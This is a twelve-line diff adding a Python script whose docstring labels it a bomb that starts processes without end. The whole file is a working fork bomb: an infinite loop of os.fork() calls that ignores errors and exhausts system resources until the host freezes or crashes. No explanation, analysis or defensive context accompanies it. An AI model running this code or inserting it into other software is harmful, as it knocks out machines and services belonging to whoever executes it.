@@ -1,0 +1,12 @@
+"""tries: start processes without end
+
+bomb: yes
+"""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
